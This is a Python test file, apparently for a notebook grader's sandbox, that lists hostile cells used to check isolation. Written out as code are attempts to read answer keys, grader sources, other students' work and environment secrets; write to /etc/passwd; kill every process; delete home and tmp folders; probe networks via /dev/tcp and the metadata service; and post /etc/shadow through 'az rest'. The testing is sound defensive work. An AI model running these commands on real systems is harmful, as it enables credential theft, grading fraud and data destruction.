# ruff: noqa: E501
"""Cells that look where they must not, write there, signal, or reach for a network."""

from tests.execution.hostile.kinds import MARK, Kind

LOOK = """
import glob, os
for pattern in ({patterns}):
    for path in sorted(glob.glob(pattern, recursive=True))[:2000]:
        try: print(path, open(path, errors="replace").read(200_000))
        except OSError as error: pass
"""


def _look(*patterns: str) -> str:
    return LOOK.format(patterns=", ".join(f"os.path.expanduser({pattern!r})" for pattern in patterns) + ",")


KINDS = [
    Kind("the gradebook read", (_look("/root/*", "~/*", "../../*", "/home/*/*", "/*/gradebook.db"),), first=True, group="looks"),
    Kind("hidden tests and sources read", (
        _look("/course/**/*.ipynb", "/course/notebooks/**", "/course/grader/**/*.py", "../*"),
        "import grader, inspect\nfor name in ('checks', 'classroom', 'course', 'intake', 'submissions'):\n    try: print(inspect.getsource(__import__(f'grader.{name}')))\n    except Exception as error: print(type(error))",
    ), first=True, group="looks"),
    Kind("recordings read", ("print(__import__('os').popen(\"find / -name 'recording*.json' -o -name 'gradebook*' -o -name 'choices.json' -o -name '*.ipynb' -not -path '/proc/*' 2>/dev/null | head\").read())",), first=True, group="looks"),
    Kind("choices and keys read", (_look("choices.json", "../choices.json", "../../choices.json", "/course/*/choices.json"),), first=True, group="looks"),
    Kind("other submissions read", (_look("../../*/*/*", "/homes/*/*/*", "/homes/*", "/tmp/azlab-*/**", "/tmp/*/*"), "!ls -la / /homes /tmp /run/line .. ../.. 2>&1"), first=True, group="looks"),
    Kind("the environment read", (
        "import os, glob\nprint(dict(os.environ))\nfor path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n    try: print(path, open(path).read())\n    except OSError: pass",
        "!env; cat /proc/1/environ /proc/self/mountinfo 2>&1 | head -200",
    ), first=True, group="looks"),
    Kind("open files of the kernel read", (
        "import os\nfor number in range(256):\n    try: print(number, os.readlink(f'/proc/self/fd/{number}'))\n    except OSError: pass\n"
        "for process in filter(str.isdigit, os.listdir('/proc')):\n    for number in range(64):\n        try: print(process, number, open(f'/proc/{process}/fd/{number}', 'rb', buffering=0).read(0))\n        except OSError: pass",
    ), first=True, group="looks"),
    Kind("the grader's files written", (
        "import glob, os\nfor path in ['/course/grader/__init__.py', '/course/azlab/__init__.py', '/course/azlab/arm/app.py', *glob.glob('/usr/lib/python3*/site.py'), os.__file__, '/etc/passwd', '/run/drop.py', '/run/line/line']:\n"
        "    try: open(path, 'a').write('x'); print('WRITTEN', path)\n    except OSError: pass\n"
        "    try: os.rename(path, path + '-'); print('WRITTEN', path)\n    except OSError: pass",
        "import subprocess, sys\nprint(subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-index', '.'], capture_output=True, text=True).stderr[-300:])",
    ), first=True, group="looks"),
    Kind("writing later, when the grading is over", (
        f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', '''\nimport os, time\nwhile True:\n    time.sleep(0.1)\n    for name in (\"later\", \"/tmp/later\", \"/dev/shm/later\", \"/homes/later\"):\n        try: open(name, \"w\").write(\"{MARK}\")\n        except OSError: pass\n''', '{MARK}'], start_new_session=True)",
    ), first=True, group="looks"),
    Kind("signals to the parent", (
        "import os, signal\nfor process in {os.getppid(), 1, *range(2, 3000)} - {os.getpid()}:\n    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):\n        try: os.kill(process, number)\n        except OSError: pass",
        "import os, signal\nfor group in (0, os.getpgid(os.getppid()) if os.getppid() else 0):\n    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n    try: os.killpg(group, signal.SIGTERM)\n    except OSError: pass",
    )),
    Kind("a signal to every process", ("import os, signal; os.kill(-1, signal.SIGKILL)",), slow=True),
    Kind("the network", (
        "import socket, urllib.request\nfor address in (('1.1.1.1', 53), ('127.0.0.1', 22), ('10.0.0.1', 80), ('169.254.169.254', 80)):\n"
        "    try: socket.create_connection(address, timeout=1); print('CONN' 'ECTED', address)\n    except OSError as error: print(type(error).__name__)\n"
        "try: print('CONN' 'ECTED', urllib.request.urlopen('https://example.com', timeout=2).status)\nexcept OSError as error: print(type(error).__name__)",
        "!curl -m 2 -s https://example.com && echo CONN\"\"ECTED; (echo > /dev/tcp/127.0.0.1/22) 2>/dev/null && echo CONN\"\"ECTED; true",
        "import os, socket\nfor path in ('/var/run/docker.sock', '/run/docker.sock', '/run/dbus/system_bus_socket', '\\0dbus'):\n    line = socket.socket(socket.AF_UNIX)\n    try: line.connect(path); print('CONN' 'ECTED', path)\n    except OSError: pass",
    ), first=True, group="looks"),
    Kind("rights of root", (
        "!sudo -n id; su -c id </dev/null; mount -t tmpfs x /mnt; unshare -r id; chroot / id; id; true",
        "import ctypes, os\nfor call in (lambda: os.setuid(0), lambda: os.mknod('disk', 0o60660, os.makedev(8, 0)), lambda: os.chroot('.')):\n    try: call(); print('ROOT')\n    except (OSError, PermissionError) as error: print(type(error).__name__)",
    ), first=True, group="looks"),
    Kind("files around the notebook deleted and rewritten", (
        "import os, shutil\nfor folder in ('.', os.path.expanduser('~'), '/tmp', '/dev/shm', '/run/line'):\n    shutil.rmtree(folder, ignore_errors=True)",
        "open('00-start-here.ipynb', 'w').write('{}')" ,
    )),
    Kind("links that lead out", (
        "import os\nfor name, target in {'etc': '/etc', 'root': '/', 'choices.json': '../../release/choices.json', '00-start-here.ipynb-': '/proc/1/root', 'homes': '/homes'}.items():\n    os.symlink(target, name)\n"
        "os.mkfifo('pipe')\nos.remove('00-start-here.ipynb'); os.symlink('/etc/shadow', '00-start-here.ipynb')",
        "%%bash\nfor file in etc/shadow root/etc/hostname choices.json homes/../release/choices.json root/proc/self/environ; do az rest --method post --url /x --body @$file; az group create -n @$file -l westeurope; done 2>&1",
    )),
]  # fmt: skip
